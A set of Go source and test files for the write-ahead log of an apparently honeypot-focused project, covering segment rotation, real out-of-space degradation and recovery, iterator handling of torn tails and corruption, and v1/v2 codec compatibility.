func (l *Log) AppendTagged(tag uint64, recs []*honeypot.SessionRecord) error {
	body, err := json.Marshal(batchBody{Tag: tag, Records: recs})
	if err != nil {
		return fmt.Errorf("wal: encoding batch: %w", err)
	}
	payload := append([]byte{kindBatch}, body...)
	frame := appendFrame(nil, payload)

	l.mu.Lock()
	defer l.mu.Unlock()
	if l.closed {
		return fmt.Errorf("wal: log is closed")
	}
	if _, err := l.f.Write(frame); err != nil {
		return fmt.Errorf("wal: appending frame: %w", err)
	}
	l.size += int64(len(frame))
	l.pending += len(recs)
	if l.pending >= l.opts.SyncEvery {
		if err := l.f.Sync(); err != nil {
			return fmt.Errorf("wal: sync: %w", err)
		}
		l.pending = 0
	}
	if l.size >= l.opts.SegmentBytes {
		if err := l.rotateLocked(); err != nil {
			return err
		}
	}
	return nil
}

// pendingRecords returns the records appended since the last fsync —
// the group-commit policy's observable state (used by tests).
func (l *Log) pendingRecords() int {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.pending
}

// Sync forces an fsync of the current segment regardless of the
// group-commit counter.
func (l *Log) Sync() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.closed {
		return fmt.Errorf("wal: log is closed")
	}
	if err := l.f.Sync(); err != nil {
		return fmt.Errorf("wal: sync: %w", err)
	}
	l.pending = 0
	return nil
}

// Close syncs and closes the log. The directory remains valid for a
// later Open.
func (l *Log) Close() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.closed {
		return nil
	}
	l.closed = true
	if err := l.f.Sync(); err != nil {
		l.f.Close()
		return fmt.Errorf("wal: sync on close: %w", err)
	}
	return l.f.Close()
}

// rotateLocked seals the current segment (fsync + close) and opens the
// next one. Sealing before the successor exists is what confines torn
// tails to the final segment.
func (l *Log) rotateLocked() error {
	if err := l.f.Sync(); err != nil {
		return fmt.Errorf("wal: sync before rotation: %w", err)
	}
	if err := l.f.Close(); err != nil {
		return fmt.Errorf("wal: closing segment: %w", err)
	}
	l.pending = 0
	return l.rollLocked(l.seq + 1)
}

// rollLocked opens segment seq for appending and writes its meta frame.
func (l *Log) rollLocked(seq uint64) error {
	f, err := os.OpenFile(filepath.Join(l.dir, segmentName(seq)), os.O_RDWR|os.O_CREATE|os.O_EXCL, 0o644)
	if err != nil {
		return fmt.Errorf("wal: creating segment: %w", err)
	}
	l.f, l.seq, l.size = f, seq, 0
	if err := l.writeMetaLocked(); err != nil {
		f.Close()
		return err
	}
	return nil
}

// writeMetaLocked writes (and syncs) the current segment's meta frame.
func (l *Log) writeMetaLocked() error {
	body, err := json.Marshal(metaBody{Format: FormatName, Segment: l.seq, Epoch: l.opts.Epoch})
	if err != nil {
		return fmt.Errorf("wal: encoding meta: %w", err)
	}
	frame := appendFrame(nil, append([]byte{kindMeta}, body...))
	if _, err := l.f.Write(frame); err != nil {
		return fmt.Errorf("wal: writing meta frame: %w", err)
	}
	if err := l.f.Sync(); err != nil {
		return fmt.Errorf("wal: syncing meta frame: %w", err)
	}
	l.size += int64(len(frame))
	return nil
}
