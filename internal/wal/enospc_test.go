//go:build linux

package wal

import (
	"errors"
	"os"
	"path/filepath"
	"syscall"
	"testing"
)

// TestRealENOSPC exercises the degraded-mode machinery against an
// actual out-of-space filesystem instead of an injected fault: the
// harness (scripts/check.sh) mounts a size-capped tmpfs and points
// HONEYFARM_ENOSPC_DIR at it. The test fills the volume with ballast,
// drives appends until the kernel returns ENOSPC, verifies the log
// degrades exactly as with injected faults (ErrDegraded wrapping
// syscall.ENOSPC, health accounting), deletes the ballast, and checks
// the probe schedule recovers and the reopened log carries one gap
// frame with the outage accounting. Skipped unless the env var is set.
func TestRealENOSPC(t *testing.T) {
	root := os.Getenv("HONEYFARM_ENOSPC_DIR")
	if root == "" {
		t.Skip("HONEYFARM_ENOSPC_DIR not set; run via scripts/check.sh for the real-ENOSPC gate")
	}
	dir := filepath.Join(root, "wal")
	if err := os.RemoveAll(dir); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	ballast := filepath.Join(root, "ballast")
	defer os.Remove(ballast)

	l, _, err := Open(dir, Options{
		Epoch: testEpoch, SyncEvery: 1, // fsync every record: hit the disk immediately
		RetryAttempts: 2, RetryPlan: tinyBackoff, ProbeEvery: 4,
	})
	if err != nil {
		t.Fatal(err)
	}
	tag := uint64(0)
	append1 := func() error {
		tag++
		return l.AppendTagged(tag, mkRecords(tag*10, 1))
	}
	var acked []uint64
	for i := 0; i < 3; i++ {
		if err := append1(); err != nil {
			t.Fatalf("pre-fill append: %v", err)
		}
		acked = append(acked, tag)
	}

	// Fill the volume to the last byte: megabyte chunks first, halving
	// on each ENOSPC down to single bytes, so no allocatable space is
	// left and the WAL's own writes must fail for real.
	bf, err := os.Create(ballast)
	if err != nil {
		t.Fatal(err)
	}
	chunk := make([]byte, 1<<20)
	for size := len(chunk); size >= 1; {
		if _, err := bf.Write(chunk[:size]); err != nil {
			if !errors.Is(err, syscall.ENOSPC) {
				t.Fatalf("ballast fill failed with %v, want ENOSPC", err)
			}
			size /= 2
		}
	}
	if err := bf.Sync(); err != nil && !errors.Is(err, syscall.ENOSPC) {
		t.Fatal(err)
	}
	if err := bf.Close(); err != nil {
		t.Fatal(err)
	}

	// With the disk genuinely full, appends must degrade — same contract
	// the injected-fault suite pins, now from the real kernel error.
	// The segment file's last partly-used page can still absorb a few
	// records without allocating, so push until the boundary is crossed.
	dropped := 0
	for i := 0; i < 256 && dropped < 3; i++ {
		err := append1()
		if err == nil {
			acked = append(acked, tag)
			continue
		}
		if !errors.Is(err, ErrDegraded) || !errors.Is(err, syscall.ENOSPC) {
			t.Fatalf("append on full disk = %v, want ErrDegraded wrapping ENOSPC", err)
		}
		dropped++
	}
	if dropped < 3 {
		t.Fatal("volume never filled; size the tmpfs smaller")
	}
	h := l.Health()
	if !h.Degraded || h.Outages != 1 || h.DroppedBatches != dropped {
		t.Fatalf("health during real outage: %+v (dropped %d)", h, dropped)
	}

	// Heal by deleting the ballast; the probe schedule must roll a fresh
	// segment and resume within ProbeEvery appends.
	if err := os.Remove(ballast); err != nil {
		t.Fatal(err)
	}
	recovered := false
	for i := 0; i < 8; i++ {
		if err := append1(); err == nil {
			acked = append(acked, tag)
			recovered = true
			break
		}
	}
	if !recovered {
		t.Fatal("log never recovered after freeing space")
	}
	h = l.Health()
	if h.Degraded || h.Recoveries != 1 {
		t.Fatalf("health after recovery: %+v", h)
	}
	if err := l.Close(); err != nil {
		t.Fatalf("close: %v", err)
	}

	// Recovery sees the acked batches, plus one gap frame accounting for
	// the records the outage dropped.
	_, rec, err := Open(dir, Options{Epoch: testEpoch})
	if err != nil {
		t.Fatal(err)
	}
	if len(rec.Batches) != len(acked) {
		t.Fatalf("recovered %d batches, want %d acked", len(rec.Batches), len(acked))
	}
	for i, b := range rec.Batches {
		if b.Tag != acked[i] {
			t.Fatalf("recovered tag %d at %d, want %d", b.Tag, i, acked[i])
		}
	}
	if len(rec.Gaps) != 1 || rec.Gaps[0].Reason != "append: enospc" {
		t.Fatalf("recovered gaps %+v, want one append:enospc outage", rec.Gaps)
	}
	if rec.Gaps[0].Batches < dropped {
		t.Fatalf("gap frame accounts %d dropped batches, want at least %d", rec.Gaps[0].Batches, dropped)
	}
	if v, err := Verify(dir, testEpoch); err != nil {
		t.Fatalf("verify after real-ENOSPC run: %v (%+v)", err, v)
	}
}
