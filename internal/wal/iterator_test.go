package wal

import (
	"honeyfarm/internal/iofault"
	"os"
	"path/filepath"
	"testing"
)

// drain pulls every currently-available batch from the iterator,
// failing the test on a corruption error.
func drain(t *testing.T, it *Iterator) []Batch {
	t.Helper()
	var out []Batch
	for i := 0; i < 1000; i++ {
		b, ok, err := it.Next()
		if err != nil {
			t.Fatal(err)
		}
		if !ok {
			return out
		}
		out = append(out, b)
	}
	t.Fatal("iterator did not report caught-up after 1000 batches")
	return nil
}

// TestIteratorSealedThenActiveHandoff is the tailer's core scenario:
// the iterator drains sealed segments, crosses the seal onto the
// active segment, reports caught-up at the pending tail, and then
// picks up frames the writer appends afterwards.
func TestIteratorSealedThenActiveHandoff(t *testing.T) {
	dir := t.TempDir()
	// Tiny segments force a rotation every batch or two.
	l, _, err := Open(dir, Options{Epoch: testEpoch, SegmentBytes: 2 << 10, SyncEvery: 1})
	if err != nil {
		t.Fatal(err)
	}
	var want []Batch
	for i := 0; i < 8; i++ {
		b := Batch{Tag: uint64(i), Records: mkRecords(uint64(i*100), 3)}
		if err := l.AppendTagged(b.Tag, b.Records); err != nil {
			t.Fatal(err)
		}
		want = append(want, b)
	}
	segs, err := listSegments(iofault.OS, dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(segs) < 2 {
		t.Fatalf("expected multiple segments, got %d", len(segs))
	}

	it, err := NewIterator(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer it.Close()
	got := drain(t, it)
	sameBatches(t, got, want)
	if epoch, ok := it.Epoch(); !ok || !epoch.Equal(testEpoch) {
		t.Fatalf("iterator epoch = %v (ok=%v), want %v", epoch, ok, testEpoch)
	}
	seq, _ := it.Pos()
	if seq != segs[len(segs)-1].Seq {
		t.Fatalf("iterator stopped on segment %d, want the active segment %d", seq, segs[len(segs)-1].Seq)
	}

	// The writer keeps appending to the active segment (and across more
	// rotations); the same iterator must pick the new frames up.
	var more []Batch
	for i := 8; i < 14; i++ {
		b := Batch{Tag: uint64(i), Records: mkRecords(uint64(i*100), 3)}
		if err := l.AppendTagged(b.Tag, b.Records); err != nil {
			t.Fatal(err)
		}
		more = append(more, b)
	}
	sameBatches(t, drain(t, it), more)
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
}

// TestIteratorEmptyThenCreated starts the iterator before the WAL
// directory has any segments (or exists at all) and checks it reports
// caught-up until a writer shows up.
func TestIteratorEmptyThenCreated(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "wal")
	it, err := NewIterator(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer it.Close()
	if _, ok, err := it.Next(); ok || err != nil {
		t.Fatalf("Next on a missing directory = (ok=%v, err=%v), want caught-up", ok, err)
	}
	if _, ok := it.Epoch(); ok {
		t.Fatal("epoch established before any meta frame was read")
	}

	l, _, err := Open(dir, Options{Epoch: testEpoch})
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	want := []Batch{{Tag: 7, Records: mkRecords(0, 5)}}
	if err := l.AppendTagged(7, want[0].Records); err != nil {
		t.Fatal(err)
	}
	if err := l.Sync(); err != nil {
		t.Fatal(err)
	}
	sameBatches(t, drain(t, it), want)
}

// TestIteratorPendingTail writes a torn half-frame at the tail of the
// final segment: the iterator must treat it as pending, not as an
// error, and resume once the frame completes.
func TestIteratorPendingTail(t *testing.T) {
	dir := t.TempDir()
	l, _, err := Open(dir, Options{Epoch: testEpoch, SyncEvery: 1})
	if err != nil {
		t.Fatal(err)
	}
	if err := l.AppendTagged(1, mkRecords(0, 2)); err != nil {
		t.Fatal(err)
	}
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}

	// Build the next frame by hand and append only half of it.
	b := Batch{Tag: 2, Records: mkRecords(100, 2)}
	frame := buildBatchFrame(t, b)
	segs, err := listSegments(iofault.OS, dir)
	if err != nil {
		t.Fatal(err)
	}
	name := filepath.Join(dir, segs[len(segs)-1].Name)
	f, err := os.OpenFile(name, os.O_WRONLY|os.O_APPEND, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.Write(frame[:len(frame)/2]); err != nil {
		t.Fatal(err)
	}

	it, err := NewIterator(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer it.Close()
	got := drain(t, it) // must stop cleanly at the torn tail
	if len(got) != 1 || got[0].Tag != 1 {
		t.Fatalf("recovered %d batches before the torn tail, want 1 with tag 1", len(got))
	}

	// Complete the frame: the pending tail becomes a real batch.
	if _, err := f.Write(frame[len(frame)/2:]); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	sameBatches(t, drain(t, it), []Batch{b})
}

// TestIteratorSealedCorruption flips a payload byte in a sealed (non
// final) segment: the iterator must fail with an error rather than
// silently skipping frames.
func TestIteratorSealedCorruption(t *testing.T) {
	dir := t.TempDir()
	l, _, err := Open(dir, Options{Epoch: testEpoch, SegmentBytes: 1 << 10, SyncEvery: 1})
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 6; i++ {
		if err := l.AppendTagged(uint64(i), mkRecords(uint64(i*10), 3)); err != nil {
			t.Fatal(err)
		}
	}
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	segs, err := listSegments(iofault.OS, dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(segs) < 2 {
		t.Fatalf("expected multiple segments, got %d", len(segs))
	}
	// Damage the tail of the first (sealed) segment.
	name := filepath.Join(dir, segs[0].Name)
	data, err := os.ReadFile(name)
	if err != nil {
		t.Fatal(err)
	}
	data[len(data)-1] ^= 0xff
	if err := os.WriteFile(name, data, 0o644); err != nil {
		t.Fatal(err)
	}

	it, err := NewIterator(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer it.Close()
	sawErr := false
	for i := 0; i < 100 && !sawErr; i++ {
		_, ok, err := it.Next()
		if err != nil {
			sawErr = true
			break
		}
		if !ok {
			break
		}
	}
	if !sawErr {
		t.Fatal("iterator crossed a damaged sealed segment without an error")
	}
}

// buildBatchFrame encodes one batch frame exactly as AppendTagged does.
func buildBatchFrame(t *testing.T, b Batch) []byte {
	t.Helper()
	tmp := t.TempDir()
	l, _, err := Open(tmp, Options{Epoch: testEpoch, SyncEvery: 1})
	if err != nil {
		t.Fatal(err)
	}
	before, err := os.ReadFile(filepath.Join(tmp, segmentName(1)))
	if err != nil {
		t.Fatal(err)
	}
	if err := l.AppendTagged(b.Tag, b.Records); err != nil {
		t.Fatal(err)
	}
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	after, err := os.ReadFile(filepath.Join(tmp, segmentName(1)))
	if err != nil {
		t.Fatal(err)
	}
	return after[len(before):]
}
