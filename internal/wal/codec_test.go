package wal

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand"
	"reflect"
	"strings"
	"testing"
	"testing/quick"
	"time"

	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/wire"
)

// quickRecord wraps a SessionRecord so testing/quick can generate it:
// time.Time and the nested slices need a custom generator (quick cannot
// fill unexported time fields), and strings are constrained to valid
// UTF-8 because encoding/json replaces invalid bytes with U+FFFD —
// "JSON semantics" is only well-defined on the UTF-8 domain.
type quickRecord struct{ rec *honeypot.SessionRecord }

func (quickRecord) Generate(r *rand.Rand, size int) reflect.Value {
	str := func() string {
		n := r.Intn(12)
		var sb strings.Builder
		for i := 0; i < n; i++ {
			// Printable ASCII plus a few multi-byte runes.
			sb.WriteRune([]rune("abcXYZ09 /.:-_é漢🐝")[r.Intn(17)])
		}
		return sb.String()
	}
	when := func() time.Time {
		sec := int64(r.Intn(1 << 31)) // 1970..2038, well inside JSON's year range
		nsec := int64(r.Intn(1e9))
		// Whole-minute offsets: RFC 3339 (JSON's format) cannot carry a
		// seconds component, so offsets with one are lossy under JSON too.
		offset := (r.Intn(2*14*60) - 14*60) * 60
		loc := time.UTC
		if offset != 0 {
			loc = time.FixedZone("", offset)
		}
		return time.Unix(sec, nsec).In(loc)
	}
	rec := &honeypot.SessionRecord{
		ID:            r.Uint64(),
		HoneypotID:    r.Intn(500) - 100, // include negatives: the codec must carry any int
		Protocol:      honeypot.Protocol(r.Intn(2)),
		ClientIP:      fmt.Sprintf("%d.%d.%d.%d", r.Intn(256), r.Intn(256), r.Intn(256), r.Intn(256)),
		ClientPort:    r.Intn(65536),
		Start:         when(),
		End:           when(),
		ClientVersion: str(),
		Termination:   honeypot.Termination(r.Intn(4)),
	}
	for i := r.Intn(4); i > 0; i-- {
		rec.Logins = append(rec.Logins, honeypot.LoginAttempt{User: str(), Password: str(), Success: r.Intn(2) == 0})
	}
	for i := r.Intn(4); i > 0; i-- {
		rec.Commands = append(rec.Commands, honeypot.CommandRecord{Input: str(), Known: r.Intn(2) == 0})
	}
	for i := r.Intn(3); i > 0; i-- {
		rec.URIs = append(rec.URIs, "http://"+str())
	}
	for i := r.Intn(3); i > 0; i-- {
		rec.Files = append(rec.Files, honeypot.FileRecord{Path: str(), Hash: str(), Op: str(), Size: r.Intn(1 << 20)})
	}
	if r.Intn(2) == 0 {
		b := make([]byte, r.Intn(64))
		r.Read(b)
		rec.Transcript = b
	}
	if len(rec.Transcript) == 0 {
		rec.Transcript = nil
	}
	return reflect.ValueOf(quickRecord{rec})
}

// binaryRoundTrip pushes records through the v2 codec: encode as a
// batch frame, validate the frame envelope, decode the payload.
func binaryRoundTrip(t *testing.T, tag uint64, recs []*honeypot.SessionRecord) Batch {
	t.Helper()
	b := getFrameBuilder()
	defer putFrameBuilder(b)
	if err := encodeBatchFrame(b, FormatNameV2, tag, recs); err != nil {
		t.Fatal(err)
	}
	frame := finishFrame(b)
	payload, next, ok := nextFrame(frame, 0)
	if !ok || next != int64(len(frame)) {
		t.Fatalf("encoded frame does not validate (ok=%v next=%d len=%d)", ok, next, len(frame))
	}
	got, intact := decodeBatchV2(payload)
	if !intact {
		t.Fatal("encoded batch does not decode")
	}
	return got
}

// jsonRoundTrip is the v1 semantics oracle: what a record looks like
// after passing through encoding/json.
func jsonRoundTrip(t *testing.T, rec *honeypot.SessionRecord) *honeypot.SessionRecord {
	t.Helper()
	data, err := json.Marshal(rec)
	if err != nil {
		t.Fatal(err)
	}
	out := &honeypot.SessionRecord{}
	if err := json.Unmarshal(data, out); err != nil {
		t.Fatal(err)
	}
	return out
}

// sameRecord compares two records with times compared by instant and
// zone offset (JSON's Parse may pick environment-dependent but
// offset-equal locations, so pointer-level location equality is not
// part of the contract).
func sameRecord(a, b *honeypot.SessionRecord) error {
	sameTime := func(x, y time.Time) bool {
		_, xo := x.Zone()
		_, yo := y.Zone()
		return x.Equal(y) && xo == yo
	}
	if !sameTime(a.Start, b.Start) || !sameTime(a.End, b.End) {
		return fmt.Errorf("times differ: %v/%v vs %v/%v", a.Start, a.End, b.Start, b.End)
	}
	ax, bx := *a, *b
	ax.Start, ax.End, bx.Start, bx.End = time.Time{}, time.Time{}, time.Time{}, time.Time{}
	if !reflect.DeepEqual(ax, bx) {
		return fmt.Errorf("records differ:\n  %+v\nvs\n  %+v", ax, bx)
	}
	return nil
}

// TestCodecMatchesJSONSemantics is the round-trip property test: for
// arbitrary records, (1) a v2 round trip is observationally identical
// to a v1 (JSON) round trip field by field, and (2) re-marshaling the
// v2 round trip to JSON reproduces the original's JSON byte for byte —
// so switching codecs can never change what recovers.
func TestCodecMatchesJSONSemantics(t *testing.T) {
	prop := func(q quickRecord, tag uint64) bool {
		got := binaryRoundTrip(t, tag, []*honeypot.SessionRecord{q.rec})
		if got.Tag != tag || len(got.Records) != 1 {
			t.Logf("tag/len mismatch: %d/%d", got.Tag, len(got.Records))
			return false
		}
		viaJSON := jsonRoundTrip(t, q.rec)
		if err := sameRecord(got.Records[0], viaJSON); err != nil {
			t.Logf("binary vs JSON round trip: %v", err)
			return false
		}
		origJSON, err := json.Marshal(q.rec)
		if err != nil {
			t.Fatal(err)
		}
		gotJSON, err := json.Marshal(got.Records[0])
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(origJSON, gotJSON) {
			t.Logf("JSON drift:\n  %s\nvs\n  %s", origJSON, gotJSON)
			return false
		}
		return true
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 400}); err != nil {
		t.Fatal(err)
	}
}

// TestCodecEmptySlicesDecodeNil pins the omitempty equivalence: empty
// (but non-nil) slices come back nil from the codec, exactly as they
// would from a JSON round trip.
func TestCodecEmptySlicesDecodeNil(t *testing.T) {
	rec := &honeypot.SessionRecord{
		ID:         7,
		Start:      testEpoch,
		End:        testEpoch,
		Logins:     []honeypot.LoginAttempt{},
		Commands:   []honeypot.CommandRecord{},
		URIs:       []string{},
		Files:      []honeypot.FileRecord{},
		Transcript: []byte{},
	}
	got := binaryRoundTrip(t, 0, []*honeypot.SessionRecord{rec}).Records[0]
	if got.Logins != nil || got.Commands != nil || got.URIs != nil || got.Files != nil || got.Transcript != nil {
		t.Fatalf("empty slices survived as non-nil: %+v", got)
	}
}

// TestLargeBatchRoundTrip is the regression test for the wire string
// cap: a batch whose payload — and a single field within it — exceeds
// wire.MaxStringLen must encode and decode cleanly, because the cap is
// per-Reader and the WAL codec lifts it to the payload size.
func TestLargeBatchRoundTrip(t *testing.T) {
	big := bytes.Repeat([]byte{0xA5}, wire.MaxStringLen+4096)
	recs := []*honeypot.SessionRecord{{
		ID: 1, ClientIP: "10.0.0.1", Start: testEpoch, End: testEpoch,
		Transcript: big,
	}}
	for i := 0; i < 64; i++ {
		recs = append(recs, mkRecords(uint64(100+i), 1)...)
	}
	got := binaryRoundTrip(t, 42, recs)
	if len(got.Records) != len(recs) {
		t.Fatalf("decoded %d records, want %d", len(got.Records), len(recs))
	}
	if !bytes.Equal(got.Records[0].Transcript, big) {
		t.Fatal("oversized transcript did not round-trip")
	}

	// And end to end through a log: the frame is well past 1 MiB.
	dir := t.TempDir()
	l, _, err := Open(dir, Options{Epoch: testEpoch})
	if err != nil {
		t.Fatal(err)
	}
	if err := l.AppendTagged(42, recs); err != nil {
		t.Fatal(err)
	}
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	_, rec, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if rec.Records() != len(recs) {
		t.Fatalf("recovered %d records, want %d", rec.Records(), len(recs))
	}
	if !bytes.Equal(rec.Batches[0].Records[0].Transcript, big) {
		t.Fatal("oversized transcript did not survive the log")
	}
}

// writeFormatted writes n tagged batches to a fresh or existing log in
// the given format and returns what was appended.
func writeFormatted(t *testing.T, dir, format string, firstTag uint64, n int, segBytes int64) []Batch {
	t.Helper()
	l, _, err := Open(dir, Options{Epoch: testEpoch, Format: format, SegmentBytes: segBytes})
	if err != nil {
		t.Fatal(err)
	}
	var out []Batch
	for i := 0; i < n; i++ {
		tag := firstTag + uint64(i)
		recs := mkRecords(tag*10+1, 2)
		if err := l.AppendTagged(tag, recs); err != nil {
			t.Fatal(err)
		}
		out = append(out, Batch{Tag: tag, Records: recs})
	}
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	return out
}

// iterateAll drains an Iterator over a quiescent directory.
func iterateAll(t *testing.T, dir string) []Batch {
	t.Helper()
	it, err := NewIterator(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer it.Close()
	var out []Batch
	for {
		b, ok, err := it.Next()
		if err != nil {
			t.Fatal(err)
		}
		if !ok {
			return out
		}
		out = append(out, b)
	}
}

// TestCrossFormatRead pins the compatibility contract: a pure v1
// directory, a pure v2 directory, and a mixed v1→v2 directory (a
// mid-run upgrade: reopened with the v2 default, forced through a
// rotation) must recover identically through Open, Verify, and the
// Iterator, and the recorded segment formats must be what each writer
// declared.
func TestCrossFormatRead(t *testing.T) {
	const segBytes = 1024 // small segments: every fixture spans several

	t.Run("v1", func(t *testing.T) {
		dir := t.TempDir()
		want := writeFormatted(t, dir, FormatName, 0, 20, segBytes)
		_, rec, err := Open(dir, Options{})
		if err != nil {
			t.Fatal(err)
		}
		sameBatches(t, rec.Batches, want)
		for _, seg := range rec.Segments {
			if seg.Format != FormatName {
				t.Fatalf("segment %s has format %q, want v1", seg.Name, seg.Format)
			}
		}
		sameBatches(t, iterateAll(t, dir), want)
	})

	t.Run("v2", func(t *testing.T) {
		dir := t.TempDir()
		want := writeFormatted(t, dir, FormatNameV2, 0, 20, segBytes)
		_, rec, err := Open(dir, Options{})
		if err != nil {
			t.Fatal(err)
		}
		sameBatches(t, rec.Batches, want)
		for _, seg := range rec.Segments {
			if seg.Format != FormatNameV2 {
				t.Fatalf("segment %s has format %q, want v2", seg.Name, seg.Format)
			}
		}
		sameBatches(t, iterateAll(t, dir), want)
	})

	t.Run("mixed-upgrade", func(t *testing.T) {
		dir := t.TempDir()
		want := writeFormatted(t, dir, FormatName, 0, 10, segBytes)
		// Upgrade mid-run: the reopened log resumes the v1 tail segment in
		// v1 and switches to v2 at the next rotation.
		want = append(want, writeFormatted(t, dir, FormatNameV2, 10, 10, segBytes)...)

		rec, err := Verify(dir, time.Time{})
		if err != nil {
			t.Fatal(err)
		}
		sawV1, sawV2 := false, false
		upgraded := false
		for _, seg := range rec.Segments {
			switch seg.Format {
			case FormatName:
				sawV1 = true
				if upgraded {
					t.Fatalf("v1 segment %s after the v2 switch", seg.Name)
				}
			case FormatNameV2:
				sawV2 = true
				upgraded = true
			default:
				t.Fatalf("segment %s has format %q", seg.Name, seg.Format)
			}
		}
		if !sawV1 || !sawV2 {
			t.Fatalf("fixture is not mixed: v1=%v v2=%v (%d segments)", sawV1, sawV2, len(rec.Segments))
		}
		sameBatches(t, rec.Batches, want)

		_, orec, err := Open(dir, Options{})
		if err != nil {
			t.Fatal(err)
		}
		sameBatches(t, orec.Batches, want)
		sameBatches(t, iterateAll(t, dir), want)
	})
}

// TestResumedSegmentKeepsFormat pins the homogeneity rule: appends to a
// resumed v1 segment stay v1 even when the log is configured for v2, so
// a segment never holds two codecs.
func TestResumedSegmentKeepsFormat(t *testing.T) {
	dir := t.TempDir()
	// Large segment threshold: everything lands in wal-00000001.seg.
	want := writeFormatted(t, dir, FormatName, 0, 3, 8<<20)

	l, _, err := Open(dir, Options{}) // v2 default
	if err != nil {
		t.Fatal(err)
	}
	recs := mkRecords(900, 2)
	if err := l.AppendTagged(99, recs); err != nil {
		t.Fatal(err)
	}
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	want = append(want, Batch{Tag: 99, Records: recs})

	rec, err := Verify(dir, time.Time{})
	if err != nil {
		t.Fatal(err)
	}
	if len(rec.Segments) != 1 {
		t.Fatalf("expected a single segment, got %d", len(rec.Segments))
	}
	if rec.Segments[0].Format != FormatName {
		t.Fatalf("resumed segment flipped to %q", rec.Segments[0].Format)
	}
	sameBatches(t, rec.Batches, want)
}

// TestUnknownFormatRefused: an Options format outside the two known
// names is a configuration error, and a meta frame declaring an unknown
// format is corruption, not a tear.
func TestUnknownFormatRefused(t *testing.T) {
	if _, _, err := Open(t.TempDir(), Options{Epoch: testEpoch, Format: "honeyfarm-wal-v9"}); err == nil {
		t.Fatal("Open accepted an unknown format option")
	}
	if _, _, _, err := decodeMeta(metaPayload(t, "honeyfarm-wal-v9", 1), segmentName(1), 1, time.Time{}); err == nil {
		t.Fatal("decodeMeta accepted an unknown recorded format")
	}
}

// metaPayload builds a meta-frame payload with an arbitrary format
// string.
func metaPayload(t *testing.T, format string, seq uint64) []byte {
	t.Helper()
	body, err := json.Marshal(metaBody{Format: format, Segment: seq, Epoch: testEpoch})
	if err != nil {
		t.Fatal(err)
	}
	return append([]byte{kindMeta}, body...)
}

// TestEncodeDecodeBatchFrame: the exported frame codec produces
// self-contained frames that decode back to back from one buffer, with
// the frame CRC catching any flipped byte.
func TestEncodeDecodeBatchFrame(t *testing.T) {
	batches := []Batch{
		{Tag: 7, Records: mkRecords(100, 2)},
		{Tag: 8, Records: nil},
		{Tag: 9, Records: mkRecords(300, 1)},
	}
	var buf []byte
	for _, b := range batches {
		buf = EncodeBatchFrame(buf, b.Tag, b.Records)
	}
	for i, want := range batches {
		got, n, err := DecodeBatchFrame(buf)
		if err != nil {
			t.Fatalf("frame %d: %v", i, err)
		}
		if got.Tag != want.Tag || len(got.Records) != len(want.Records) {
			t.Fatalf("frame %d: tag=%d records=%d, want tag=%d records=%d",
				i, got.Tag, len(got.Records), want.Tag, len(want.Records))
		}
		for j := range want.Records {
			if err := sameRecord(jsonRoundTrip(t, want.Records[j]), got.Records[j]); err != nil {
				t.Fatalf("frame %d record %d: %v", i, j, err)
			}
		}
		buf = buf[n:]
	}
	if len(buf) != 0 {
		t.Fatalf("%d trailing bytes after last frame", len(buf))
	}

	// A flipped byte is caught by the frame CRC.
	frame := EncodeBatchFrame(nil, 1, mkRecords(400, 1))
	frame[len(frame)-1] ^= 0xff
	if _, _, err := DecodeBatchFrame(frame); err == nil {
		t.Fatal("corrupt frame decoded cleanly")
	}
}
