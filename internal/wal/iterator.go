package wal

// Iterator is the shared read path over a WAL directory: fsck uses it
// to cross-check the recovery scan frame by frame, and the query
// engine's follower uses it to tail a log that is still being written.
// Unlike scan, which reads whole segments at once, an Iterator holds a
// byte position and yields one batch per call, so a caller can drain
// everything durable today and pick up new frames as the writer appends
// them.
//
// The torn-tail rule shapes the cursor's movement. A segment is sealed
// — fsynced and closed — before its successor is created, so:
//
//   - on the final segment, an incomplete frame is a pending tail: the
//     writer may still be mid-append, and Next reports "caught up"
//     rather than an error;
//   - once a successor exists, the current segment is sealed, and any
//     leftover bytes that never became a frame are corruption.
//
// Degraded-mode recovery preserves both properties: a writer that
// degrades seals its segment at the last frame-aligned size before the
// probe creates a successor, and the successor opens with a gap frame.
// The iterator collects gap frames into Gaps() as it crosses them, so
// a tailing follower can account for dropped records in real time.

import (
	"errors"
	"fmt"
	"io"
	iofs "io/fs"
	"os"
	"path/filepath"
	"time"

	"honeyfarm/internal/iofault"
)

// Iterator reads a WAL directory batch by batch in log order. It is
// not safe for concurrent use; it is safe to use while a Log appends
// to the same directory from this or another process.
type Iterator struct {
	fs      iofault.FS
	dir     string
	epoch   time.Time    // established by the first meta frame read
	seq     uint64       // current segment sequence (0 until one is found)
	off     int64        // consumed byte offset within the current segment
	f       iofault.File // current segment, nil before open / after advance
	buf     []byte       // bytes read beyond off, not yet consumed
	sawMeta bool         // current segment's meta frame has been consumed
	format  string       // current segment's batch codec (from its meta frame)
	gaps    []Gap        // gap frames crossed so far, in log order
}

